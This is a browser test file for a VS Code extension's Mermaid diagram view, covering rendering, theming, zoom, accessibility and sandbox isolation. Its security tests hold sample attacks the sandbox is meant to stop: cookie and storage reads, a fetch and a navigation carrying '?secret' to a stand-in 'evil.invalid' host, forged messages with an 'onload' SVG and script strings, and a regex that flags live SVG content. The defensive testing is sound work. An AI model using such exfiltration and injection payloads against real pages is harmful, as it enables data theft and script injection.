// A diagram's page in a real browser, with the Mermaid that users download.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import type { FromDiagram, FromFrame, ToDiagram, ToFrame } from '../../src/panel/diagramContract';
import { MERMAID_FILE } from '../../src/registry/install/keptFile';
import { HOSTILE_DIAGRAMS } from '../support/hostile/diagrams';
import { THEMES } from '../support/tier';
import { cutOff, seriousFindings } from './harness/axe';
import type { Theme } from './harness/server';
import type { Language } from './harness/texts';
import { useHarness } from './harness/useHarness';

interface DiagramHost {
  readonly posted: readonly FromDiagram[];
  readonly violations: readonly string[];
  send(message: ToDiagram): void;
  next(type: string, after?: number): Promise<FromDiagram>;
}

const library = readFileSync('node_modules/@mermaid-js/tiny/dist/mermaid.tiny.js', 'utf8');
const FLOW = 'flowchart LR\n  A[Read] --> B{Known?}\n  B -- yes --> C[(Store)]\n  B -- no --> D[Ask]';

const KINDS: Readonly<Record<string, string>> = {
  flowchart: FLOW,
  sequence: 'sequenceDiagram\n  Alice->>+Bob: Hello\n  Note right of Bob: thinks\n  Bob-->>-Alice: Hi',
  class: 'classDiagram\n  Animal <|-- Duck\n  class Duck {\n    +String name\n    +quack()\n  }',
  state: 'stateDiagram-v2\n  [*] --> Idle\n  Idle --> Busy : ask\n  Busy --> Idle\n  Busy --> [*]',
  gantt:
    'gantt\n  title Plan\n  dateFormat YYYY-MM-DD\n  section One\n  Read :a1, 2026-01-01, 3d\n  Write :crit, after a1, 2d',
  pie: 'pie title Time\n  "Reading" : 60\n  "Writing" : 40',
  'entity relationship': 'erDiagram\n  USER ||--o{ ORDER : places\n  USER {\n    string name\n  }',
  git: 'gitGraph\n  commit\n  branch work\n  commit\n  checkout main\n  merge work',
  journey: 'journey\n  title Day\n  section Work\n    Read: 5: Me\n    Write: 3: Me, You',
};

/** In the page: has its frame draw, and shows the picture as the page does. */
async function orderAndShow(order: ToFrame): Promise<FromFrame & { readonly isShown?: boolean }> {
  const answer = await new Promise<FromFrame>((resolve) => {
    const hear = ({ data }: MessageEvent<FromFrame>): void => {
      if (data.id !== order.id) return;
      window.removeEventListener('message', hear);
      resolve(data);
    };
    window.addEventListener('message', hear);
    document.querySelector('iframe')!.contentWindow!.postMessage(order, '*');
  });
  if (!('svg' in answer)) return answer;
  const image = new Image();
  image.src = URL.createObjectURL(new Blob([answer.svg], { type: 'image/svg+xml' }));
  const isShown = await image.decode().then(
    () => true,
    () => false,
  );
  return { ...answer, isShown };
}

function whatIsAlive(svg: string): readonly string[] {
  // What stands in an attribute is text: only addresses and styles are more.
  const tags =
    svg.replaceAll(/\s(?!on|href|src|xlink:|style|fill|stroke)[\w:-]+="[^"]*"/gi, '').match(/<[^>]*>/g) ?? [];
  const styles = [...svg.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)].map(([, text = '']) => text);
  const isAlive =
    /^<(?:script|foreignObject|iframe|image|img|a|animate|set)\b|\son\w+=|\s(?:xlink:)?href="[^#]|javascript:|https?:|url\((?!["']?#|&quot;#)/i;
  return [
    ...tags.filter((tag) => isAlive.test(tag)),
    ...styles.filter((text) => /@import|url\((?!["']?#)/i.test(text)),
  ];
}

describe('what draws diagrams', () => {
  it('is the script whose checksum Parley knows', () => {
    assert.equal(createHash('sha256').update(library).digest('hex'), MERMAID_FILE.sha256);
  });
});

describe('the page of a diagram', () => {
  const browser = useHarness();
  let page: Page;
  let requested: string[];
  let broken: string[];
  /** The content policy stops something that the test has done. */
  let isStopped: boolean;

  async function open(theme: Theme = 'dark', width = 860, language: Language = 'en'): Promise<void> {
    page = await browser.harness.page(browser.harness.server.toolUrl('diagram', theme, language), width, 700);
    requested = [];
    broken = [];
    isStopped = false;
    // What the policy stops is told of as a request that failed.
    page.on('requestfinished', (request) => requested.push(request.url()));
    page.on('requestfailed', (request) => request.failure()?.errorText !== 'csp' && requested.push(request.url()));
    page.on('pageerror', (error) => broken.push(String(error)));
    page.on('dialog', (dialog) => {
      broken.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.evaluate(() => (host as unknown as DiagramHost).next('hello'));
  }
  const image = () => page.locator('.diagram-view img');
  const status = () => page.locator('.diagram-status');
  const draw = async (source: string): Promise<'drawn' | string> => {
    await page.evaluate((message) => (host as unknown as DiagramHost).send(message), {
      type: 'diagram',
      library,
      source,
    } as const);
    await page.waitForFunction(
      () => {
        const picture = document.querySelector<HTMLImageElement>('.diagram-view img')!;
        const isShown = !picture.closest('[hidden]') && picture.complete && picture.naturalWidth > 0;
        const words = document.querySelector('.diagram-status:not([hidden])')?.textContent ?? '';
        return isShown || /not drawn|nicht gezeichnet/.test(words);
      },
      undefined,
      { timeout: 30_000 },
    );
    return (await status().isVisible()) ? status().innerText() : 'drawn';
  };
  const saved = async (): Promise<string> => {
    await page.getByRole('button', { name: /^(Save|Als SVG)/ }).click();
    const message = await page.evaluate(() => (host as unknown as DiagramHost).next('save'));
    assert.ok(message.type === 'save');
    return message.svg;
  };

  afterEach('look for errors', async () => {
    const { violations, problems } = await page.evaluate(() => ({
      violations: (host as unknown as DiagramHost).violations,
      problems: (host as unknown as DiagramHost).posted.filter(({ type }) => type === 'problem'),
    }));
    await page.close();
    assert.deepEqual(isStopped ? broken : [violations, problems, broken], isStopped ? [] : [[], [], []]);
    const origin = new URL(browser.harness.server.partsUrl).origin;
    assert.deepEqual(
      requested.filter((url) => !url.startsWith(`blob:${origin}/`)),
      [],
      'something was requested',
    );
  });

  for (const [kind, source] of Object.entries(KINDS))
    it(`draws a diagram of the kind ${kind}`, async () => {
      await open();
      assert.equal(await draw(source), 'drawn');
      const svg = await saved();
      assert.match(svg, /^<svg [^>]*viewBox="/);
      assert.doesNotMatch(svg, /<foreignObject|<script|\son\w+=/i);
      const size = await image().evaluate(({ naturalWidth, naturalHeight }: HTMLImageElement) => [
        naturalWidth,
        naturalHeight,
      ]);
      assert.ok(
        size.every((length) => length > 50 && length < 3_000),
        String(size),
      );
    });

  it('waits until the frame that measures texts has a size', async () => {
    await open();
    await page.evaluate(() => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync('iframe { display: none }');
      document.adoptedStyleSheets = [sheet];
      window.addEventListener('message', () => setTimeout(() => sheet.replaceSync(''), 1_500));
    });
    assert.equal(await draw(KINDS.state ?? ''), 'drawn');
    assert.ok((await image().evaluate(({ naturalHeight }: HTMLImageElement) => naturalHeight)) > 100);
  });

  it('takes the colours of the theme, and draws again when it changes', async () => {
    await open('dark');
    await draw(FLOW);
    const dark = await saved();
    const before = await image().getAttribute('src');
    await page.evaluate(() => {
      document.body.className = 'vscode-light';
      document.documentElement.style.setProperty('--vscode-editor-background', '#ffffff');
      document.documentElement.style.setProperty('--vscode-editor-foreground', '#111111');
    });
    await page.waitForFunction(
      (old) => document.querySelector('.diagram-view img')?.getAttribute('src') !== old,
      before,
    );
    const posted = await page.evaluate(() => host.posted.length);
    await page.getByRole('button', { name: 'Save as SVG…' }).click();
    const light = await page.evaluate((after) => (host as unknown as DiagramHost).next('save', after), posted);
    assert.ok(light.type === 'save');
    assert.match(light.svg, /background: rgb\(255, 255, 255\)/);
    assert.match(light.svg, /#111111|rgb\(17, 17, 17\)/);
    assert.doesNotMatch(dark, /background: rgb\(255, 255, 255\)/);
  });

  it('says in which line a source is wrong, and shows the source', async () => {
    await open();
    const why = await draw('flowchart LR\n  A --> B\n  C --> [\n');
    assert.match(why, /^Diagram not drawn\n\n.*line 3/s);
    assert.ok(await page.locator('.diagram-source').isVisible());
    assert.equal(await image().isVisible(), false);
  });

  it('names the picture by what its source says, and offers the source as text', async () => {
    await open();
    const source = 'flowchart LR\n  accTitle: How it works\n  accDescr: Reads, then writes\n  A --> B';
    await draw(source);
    await page.getByRole('img', { name: 'How it works. Reads, then writes' }).waitFor();
    await page.getByText('Source').click();
    assert.equal(await page.locator('.diagram-source').innerText(), source);
  });

  it('zooms and fits with keys, the wheel and buttons', async () => {
    await open();
    await draw(`flowchart TB\n${Array.from({ length: 30 }, (_one, n) => `a${n} --> a${n + 1}`).join('\n')}`);
    const height = (): Promise<number> => image().evaluate((element) => element.getBoundingClientRect().height);
    const fitted = await height();
    const view = page.locator('.diagram-view');
    assert.ok(fitted <= (await view.evaluate(({ clientHeight }) => clientHeight)));
    await view.focus();
    await page.keyboard.press('+');
    const larger = await height();
    assert.ok(Math.abs(larger / fitted - 1.25) < 0.02);
    await page.keyboard.press('-');
    assert.ok(Math.abs((await height()) - fitted) < 1);
    await page.keyboard.press('1');
    await page.getByText('100%').waitFor();
    const scrolled = await view.evaluate((element) => element.scrollTop);
    await page.keyboard.press('ArrowDown');
    await page.waitForFunction((before) => document.querySelector('.diagram-view')!.scrollTop > before, scrolled);
    await view.hover();
    await page.mouse.down();
    await page.mouse.move(100, 100);
    await page.mouse.up();
    await page.keyboard.press('0');
    assert.ok(Math.abs((await height()) - fitted) < 1);
    await page.keyboard.down('Control');
    await page.mouse.wheel(0, -100);
    await page.keyboard.up('Control');
    await page.waitForFunction(
      (before) => document.querySelector('.diagram-view img')!.getBoundingClientRect().height > before * 1.2,
      fitted,
    );
    await page.getByRole('button', { name: 'Show All (0)' }).click();
    await page.setViewportSize({ width: 500, height: 400 });
    await page.waitForFunction(
      () =>
        document.querySelector('.diagram-view img')!.getBoundingClientRect().height <=
        document.querySelector('.diagram-view')!.clientHeight,
    );
  });

  it('gives the frame access to nothing', async () => {
    await open();
    await draw(FLOW);
    const [, frame] = page.frames();
    assert.ok(frame);
    const found = await frame.evaluate(async () => {
      const attempt = async (run: () => unknown): Promise<string> => {
        try {
          return String(await run());
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: globalThis.origin,
        parent: await attempt(() => window.parent.document),
        storage: await attempt(() => localStorage),
        cookie: await attempt(() => document.cookie),
        fetch: await attempt(() => fetch('https://evil.invalid')),
        own: await attempt(() => fetch(new URL('/main.css', document.baseURI))),
        api: typeof (globalThis as { acquireVsCodeApi?: unknown }).acquireVsCodeApi,
        open: await attempt(() => window.open('https://evil.invalid')),
        script: await attempt(() => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.ran = true';
          document.head.append(script);
          return 'ran' in globalThis;
        }),
      };
    });
    assert.deepEqual(found, {
      origin: 'null',
      parent: 'SecurityError',
      storage: 'SecurityError',
      cookie: 'SecurityError',
      fetch: 'TypeError',
      own: 'TypeError',
      api: 'undefined',
      open: 'null',
      script: 'false',
    });
    const stopped = page.evaluate(() => (host as unknown as DiagramHost).next('problem'));
    await frame.evaluate(() => {
      location.href = 'https://evil.invalid/?secret';
    });
    assert.match(JSON.stringify(await stopped), /frame-src stopped https:\/\/evil\.invalid/);
    isStopped = true;
  });

  it('does not take what the frame says for something else', async () => {
    await open();
    await draw(FLOW);
    const before = await image().getAttribute('src');
    const [, frame] = page.frames();
    await frame!.evaluate(() => {
      for (const message of [
        { type: 'diagram', library: 'globalThis.pwned = 1', source: 'x' },
        { id: 1, svg: '<svg onload="pwned=1"/>', width: 10, height: 10, label: 'x' },
        { id: 2, svg: 7, width: Number.NaN, height: -1, label: {} },
        { type: 'hello' },
        null,
        'x',
      ])
        window.parent.postMessage(message, '*');
    });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
    assert.equal(await image().getAttribute('src'), before);
  });

  it('stops a drawing that takes too long, and stays usable', async () => {
    await open();
    await page.evaluate(() => {
      const { setTimeout: later } = window;
      window.setTimeout = ((run: () => void, ms: number) => later(run, ms === 20_000 ? 500 : ms)) as typeof setTimeout;
    });
    await page.evaluate((message) => (host as unknown as DiagramHost).send(message), {
      type: 'diagram',
      library: 'globalThis.mermaid = { initialize() {}, render() { for (;;); } };',
      source: 'x',
    } as const);
    await page.getByText('Drawing was stopped because it took too long.').waitFor();
    assert.equal(await page.locator('iframe').count(), 0);
    await page.getByText('Source').click();
  });

  it('draws or refuses hostile diagrams, and runs and fetches nothing', async function () {
    this.timeout(180_000);
    await open();
    await draw(FLOW);
    const [, frame] = page.frames();
    assert.ok(frame);
    const hostile = Object.entries(HOSTILE_DIAGRAMS);
    assert.ok(hostile.length >= 50);
    const drawn: string[] = [];
    for (const [index, [what, source]] of hostile.entries()) {
      const order: ToFrame = {
        id: 100 + index,
        source,
        library: undefined,
        background: '#1e1e1e',
        fontFamily: 'sans-serif',
        theme: {},
      };
      const answer = await page.evaluate(orderAndShow, order);
      if ('svg' in answer) {
        drawn.push(what);
        assert.equal(answer.isShown, true, `${what}: the picture is invalid`);
        assert.deepEqual(whatIsAlive(answer.svg), [], what);
      } else assert.notEqual(answer.error, '', what);
      for (const one of page.frames())
        assert.equal(await one.evaluate(() => 'pwned' in globalThis || 'pwned' in {}), false, what);
    }
    // Most are refused or harmless; where none were drawn, nothing would have been tested.
    assert.ok(drawn.length > 40, `${drawn.length} of ${hostile.length}`);
  });

  it('says in the picture that a source is too long', async () => {
    await open();
    assert.equal(await draw(`flowchart LR\nA["${'x'.repeat(50_001)}"] --> B`), 'drawn');
    assert.match(await saved(), /exceeded/);
  });

  for (const theme of THEMES)
    it(`has no finding of axe-core: ${theme}`, async () => {
      for (const source of [FLOW, 'flowchart LR\n  C --> [']) {
        if (page && !page.isClosed()) await page.close();
        await open(theme);
        await draw(source);
        await page.getByText('Source').click();
        assert.deepEqual(await seriousFindings(page, 'html'), []);
      }
    });

  for (const language of ['en', 'de'] as const)
    it(`fits into 280 px: ${language}`, async () => {
      await open('dark', 280, language);
      await draw(FLOW);
      assert.deepEqual(await cutOff(page, '.diagram-bar *, .diagram-view, summary', 1), []);
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
      if (language === 'de') await page.getByRole('button', { name: 'Alles anzeigen (0)' }).waitFor();
    });
});
